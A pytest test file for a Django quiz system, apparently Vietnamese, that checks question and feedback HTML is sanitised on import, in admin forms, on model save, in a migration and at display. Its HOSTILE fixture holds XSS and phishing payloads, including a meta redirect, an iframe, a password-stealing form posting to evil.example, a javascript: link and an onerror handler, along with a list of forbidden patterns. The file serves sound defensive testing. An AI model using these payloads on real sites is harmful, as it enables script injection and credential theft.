"""Question, answer and feedback HTML is cleaned to an allow-list through every door that writes
a question (import command, admin import, admin form, model save) and again when shown."""

import pytest

from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from lms.core.html import clean_html
from quizzes.formats import ParsedQuestion, write_gift
from quizzes.models import Attempt, Question, QuestionBank

HOSTILE = (
    "<p>Câu <strong>hỏi</strong> <em>an toàn</em></p>"
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
    '<p style="background:url(https://evil.example/x.png)">nền</p>'
    '<a href="javascript:alert(1)">bấm</a>'
    '<a href="https://tcvn.gov.vn/" target="_blank">TCVN</a>'
    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d">'
    '<img src="/media/h.png" onerror="alert(1)">'
    "<script>alert(1)</script><style>body{display:none}</style>"
)
FORBIDDEN = (
    "http-equiv",
    "<iframe",
    "<form",
    "<input",
    "style",
    "url(",
    "javascript:",
    "onerror",
    "<script",
    "alert(1)",
    "target=",
    "data:",
    "evil.example",
)


def assert_clean(html: str) -> None:
    for bad in FORBIDDEN:
        assert bad not in html, (bad, html)


def assert_kept(html: str) -> None:
    assert "<p>Câu <strong>hỏi</strong> <em>an toàn</em></p>" in html
    assert '<a href="https://tcvn.gov.vn/" rel="noopener noreferrer">TCVN</a>' in html
    assert '<img src="/media/h.png">' in html


def hostile_question(**fields) -> ParsedQuestion:
    values = {
        "qtype": "single_choice",
        "name": "Câu độc hại",
        "text": HOSTILE,
        "text_format": "html",
        "answers": [
            {"text": "Đúng" + HOSTILE, "fraction": 1.0, "feedback": "Phản hồi" + HOSTILE},
            {"text": "<b>Sai</b><iframe></iframe>", "fraction": 0.0, "feedback": ""},
        ],
        "general_feedback": "Chung" + HOSTILE,
    }
    return ParsedQuestion(**(values | fields))


def assert_question_clean(question: Question) -> None:
    assert_clean(question.text)
    assert_kept(question.text)
    assert_clean(question.general_feedback)
    for answer in question.answers:
        assert_clean(answer["text"])
        assert_clean(answer["feedback"])
    assert_kept(question.answers[0]["feedback"])


def test_clean_html_keeps_formatting_and_drops_everything_active():
    cleaned = clean_html(HOSTILE)
    assert_clean(cleaned)
    assert_kept(cleaned)
    assert clean_html(cleaned) == cleaned
    assert clean_html('<a href="mailto:iso@dost.gov.vn">thư</a>').startswith('<a href="mailto:')
    assert "src" not in clean_html('<img src="mailto:x@y">')
    table = "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>"
    assert clean_html(table) == table
    assert clean_html(
        "<ul><li>x<sub>2</sub><sup>3</sup><u>u</u></li></ul><pre><code>c</code></pre>"
    )


def test_import_command_stores_clean_html(db, tmp_path):
    path = tmp_path / "doc-hai.gift"
    path.write_text(write_gift([hostile_question()]), encoding="utf-8")
    call_command("import_questions", str(path), "--format", "gift", "--bank", "Độc")
    assert_question_clean(Question.objects.get(bank__name="Độc"))


def test_admin_import_stores_clean_html(client, editor):
    client.force_login(editor)
    upload = SimpleUploadedFile("doc-hai.gift", write_gift([hostile_question()]).encode())
    preview = client.post(
        "/admin/questions/import/", {"file": upload, "fmt": "gift", "bank": "Độc"}
    )
    assert preview.status_code == 200 and not Question.objects.exists()
    done = client.post(
        "/admin/questions/import/",
        {"confirm": "1", "token": preview.context["token"]},
    )
    assert done.status_code == 302
    assert_question_clean(Question.objects.get(bank__name="Độc"))


def test_admin_question_form_stores_clean_html(client, editor):
    bank = QuestionBank.objects.create(name="Độc")
    client.force_login(editor)
    question = hostile_question()
    response = client.post(
        reverse("wagtailsnippets_quizzes_question:add"),
        {
            "bank": bank.pk,
            "category": "",
            "qtype": "single_choice",
            "name": question.name,
            "text": question.text,
            "text_format": "moodle",
            # The editor's answer rows, as a trainer fills them in.
            **{
                f"answer_{i}_{key}": value
                for i, answer in enumerate(question.answers)
                for key, value in (
                    ("text", answer["text"]),
                    ("percent", str(answer["fraction"] * 100)),
                    ("feedback", answer["feedback"]),
                )
            },
            "general_feedback": question.general_feedback,
            "default_mark": "1",
            "shuffle_answers": "on",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    assert_question_clean(Question.objects.get(bank=bank))


def test_model_save_cleans_html_but_leaves_plain_text_as_typed(db):
    bank = QuestionBank.objects.create(name="Độc")
    question = hostile_question()
    saved = Question.objects.create(
        bank=bank,
        qtype=question.qtype,
        name=question.name,
        text=question.text,
        text_format="html",
        answers=question.answers,
        general_feedback=question.general_feedback,
    )
    saved.refresh_from_db()
    assert_question_clean(saved)
    plain = Question.objects.create(
        bank=bank, qtype="short_answer", name="Thường", text="a < b & <c>", text_format="plain",
        answers=[{"text": "x<y", "fraction": 1.0, "feedback": ""}],
    )  # fmt: skip
    plain.refresh_from_db()
    assert plain.text == "a < b & <c>" and plain.answers[0]["text"] == "x<y"


def test_short_answer_text_stays_what_the_trainee_types(db):
    bank = QuestionBank.objects.create(name="Ngắn")
    question = Question.objects.create(
        bank=bank, qtype="short_answer", name="N", text="<p>Điền</p>", text_format="html",
        answers=[{"text": "a<b", "fraction": 1.0, "feedback": "<script>x</script>Đúng"}],
    )  # fmt: skip
    assert question.answers == [{"text": "a<b", "fraction": 1.0, "feedback": "Đúng"}]


def test_migration_cleans_questions_stored_before(db):
    bank = QuestionBank.objects.create(name="Cũ")
    question = Question.objects.create(bank=bank, qtype="essay", name="Cũ", text="x")
    Question.objects.filter(pk=question.pk).update(text=HOSTILE, general_feedback=HOSTILE)
    migration = __import__(
        "quizzes.migrations.0005_clean_question_html", fromlist=["clean_existing_questions"]
    )
    migration.clean_existing_questions(apps, None)
    question.refresh_from_db()
    assert_clean(question.text)
    assert_clean(question.general_feedback)
    assert_kept(question.text)


@pytest.mark.parametrize("text_format", ["moodle", "html"])
def test_attempt_page_shows_no_active_html_even_from_an_old_snapshot(
    client, course, make_quiz, enrol, trainee, text_format
):
    quiz = make_quiz(course, time_limit_minutes=0)
    enrol(trainee, course)
    snapshot = [
        {
            "id": "7",
            "question_id": 7,
            "qtype": "single_choice",
            "name": "Cũ",
            "text": HOSTILE,
            "text_format": text_format,
            "general_feedback": "",
            "mark": 1.0,
            "answers": [
                {"id": "a0", "text": "Đúng" + HOSTILE, "fraction": 1.0, "feedback": ""},
                {"id": "a1", "text": "Sai", "fraction": 0.0, "feedback": ""},
            ],
        }
    ]
    attempt = Attempt.objects.create(user=trainee, quiz=quiz, questions=snapshot)
    client.force_login(trainee)
    page = client.get(reverse("quizzes:attempt", args=[attempt.pk])).content.decode()
    body = page[page.index('id="quiz-form"') :]
    for bad in ("http-equiv", "<iframe", 'action="https://evil', "javascript:", "onerror"):
        assert bad not in body, bad
    assert "url(https://evil" not in body and "alert(1)" not in body
    assert "<strong>hỏi</strong>" in body
